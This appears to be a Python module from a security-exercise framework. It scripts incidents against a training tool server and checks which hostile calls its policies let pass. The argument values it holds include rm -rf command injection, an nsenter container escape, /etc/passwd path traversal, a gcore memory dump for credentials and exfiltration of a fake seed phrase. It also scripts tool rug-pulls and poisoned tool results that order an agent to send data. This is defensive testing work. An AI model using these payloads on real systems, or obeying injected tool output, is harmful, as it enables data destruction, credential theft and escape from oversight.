"""What happens in scripted incidents: real calls at the training server that no policy stops, unless it says so."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping, Sequence
from typing import cast

from watchkeeper.core.errors import WatchkeeperError
from watchkeeper.exercise.agent import AUTO, MODERN, Answer, connect
from watchkeeper.exercise.attacks.scene import Scene
from watchkeeper.exercise.demo import Unseen, fake_secret
from watchkeeper.exercise.incidents.model import Call
from watchkeeper.exercise.incidents.ports import Ground
from watchkeeper.exercise.stage import THIEF, TOOLS
from watchkeeper.exercise.training_server import HIDDEN_IN_RESULT

DROP = "collect.example.net"
"""Where stolen things are seen; nobody's (RFC 2606)."""


async def changed_tool(scene: Scene) -> str:
    """A tool's description changes after it was approved."""
    async with scene.agent(era=AUTO) as agent:
        await agent.tools()
    await asyncio.to_thread(scene.estate.approve, scene.server, "weather")
    scene.behave(rug_pull=True)
    async with scene.agent(era=AUTO) as agent:
        shown = await agent.tools()
    return f"the server changed it; listed are {', '.join(shown)}"


async def changed_tool_called(scene: Scene) -> str:
    """A tool changes, is called before anybody has listed it anew, and its caller is stopped with a secret."""
    said = await _called_after_change(scene)
    async with scene.agent(era=AUTO) as agent:
        answer = await agent.call("send_message", {"to": "archive@example.net", "text": f"the key is {fake_secret()}"})
        if not answer.refused:
            raise Unseen("a secret left")
        await agent.tools()
    return f"{said}; a secret was stopped; then the server was listed, and had changed it"


async def changed_tool_got_token(scene: Scene) -> str:
    """A tool changes and is called before anybody has listed it anew: it has what a person granted its caller."""
    said = await _called_after_change(scene)
    async with scene.agent(era=AUTO) as agent:
        await agent.tools()
    return f"{said}, with a person's token; then the server was listed, and had changed it"


async def text_let_through(scene: Scene) -> str:
    """An answer gives orders, and careless policies let it pass; whoever looks later finds nothing there."""
    scene.behave(forecast=HIDDEN_IN_RESULT)
    said = await _passed(scene, "weather", {"city": "Lisbon"})
    scene.behave()
    return said


async def secret_let_through(scene: Scene) -> str:
    """The words of a wallet leave in a call that careless policies let pass."""
    scene.behave(forecast="Thank you.")
    words = " ".join(["abandon"] * 11 + ["about"])
    return await _passed(scene, "weather", {"city": f"seed phrase: {words}."})


async def destroyed_after_change(scene: Scene) -> str:
    """A tool changes; then another one is called, and destroys."""
    said = await changed_tool(scene)
    return f"{said}; {await _passed(scene, 'notes_read', {'name': 'shopping; rm -rf / --no-preserve-root'})}"


async def log_was_cut(scene: Scene) -> str:
    """Whoever has the host takes the newest records off a log."""
    return await asyncio.to_thread(cast(Ground, scene.estate).cut_log)


async def used_flaw(scene: Scene) -> str:
    """A call leaves its container."""
    return await _passed(scene, "weather", {"city": "$(nsenter --target 1 --mount --uts --ipc --net --pid -- sh)"})


async def obeyed_orders(scene: Scene) -> str:
    """A note gives orders, and whoever read it sends something, though the note was withheld."""
    scene.behave(poison_result=True)
    async with scene.agent(era=AUTO) as agent:
        await agent.call("notes_read", {"name": "shopping"})
    return await _passed(scene, "send_message", {"to": "archive@example.net", "text": "as you wished"})


async def left_secret(scene: Scene) -> str:
    """A call reads the memory of a process, where credentials lie; somebody sees them elsewhere."""
    return await _passed(scene, "weather", {"city": "gcore -o /tmp/core 4711"})


async def strange_path(scene: Scene) -> str:
    """A call asks for what is outside of its folder; somebody says whose data came."""
    return await _passed(scene, "weather", {"city": "../../../../../../etc/passwd"})


async def destroyed(scene: Scene) -> str:
    """A call destroys whatever it reaches."""
    return await _passed(scene, "weather", {"city": "Lisbon; rm -rf / --no-preserve-root"})


async def show_and_approve(scene: Scene) -> None:
    """The server's tools are listed, and each is approved as it is."""
    async with scene.agent(era=AUTO) as agent:
        await agent.tools()
    for tool in TOOLS:
        await asyncio.to_thread(scene.estate.approve, scene.server, tool)


async def still_refused(scene: Scene, calls: Sequence[Call], client: str) -> str:
    """The last of these calls gets nothing. Raises `Unseen` when it does."""
    try:
        answer = await _last_of(scene, calls, client)
    except WatchkeeperError:
        raise
    except Exception as error:  # noqa: BLE001 — a client that is shut out fails in whatever way its library has
        return f"the client was shut out: {type(error).__name__}"
    if not answer.refused:
        raise Unseen(f"{calls[-1][0]} still works: {answer.text[:200]}")
    return f"the client was told: {answer.text[:80]!r}"


async def works_again(scene: Scene, calls: Sequence[Call], client: str) -> str:
    """The last of these calls is answered. Raises `Unseen` when it is not."""
    answer = await _last_of(scene, calls, client)
    if answer.refused:
        raise Unseen(f"{calls[-1][0]} is still refused: {answer.text[:200]}")
    return f"the client was answered: {answer.text[:80]!r}"


async def look_again(scene: Scene) -> bool:
    """Another client looks what the server has now; whether it may."""
    try:
        async with connect(scene.estate.url(scene.server), await scene.token(THIEF), AUTO) as other:
            await other.tools()
    except Exception:  # noqa: BLE001 — a client that is shut out fails in whatever way its library has
        return False
    return True


async def _called_after_change(scene: Scene) -> str:
    async with scene.agent(era=AUTO) as agent:
        await agent.tools()
    await asyncio.to_thread(scene.estate.approve, scene.server, "weather")
    scene.behave(rug_pull=True)
    return await _passed(scene, "weather", {"city": "../../../../../../etc/passwd"})


async def _last_of(scene: Scene, calls: Sequence[Call], client: str) -> Answer:
    async with connect(scene.estate.url(scene.server), await scene.token(client), MODERN) as agent:
        for tool, arguments in calls:
            answer = await agent.call(tool, arguments)
    return answer


async def _passed(scene: Scene, tool: str, arguments: Mapping[str, str]) -> str:
    async with scene.agent(era=AUTO) as agent:
        answer = await agent.call(tool, arguments)
    if answer.refused:
        raise Unseen(f"{tool} was refused: {answer.text[:200]}")
    return f"{tool} was let through: {answer.text[:60]!r}"
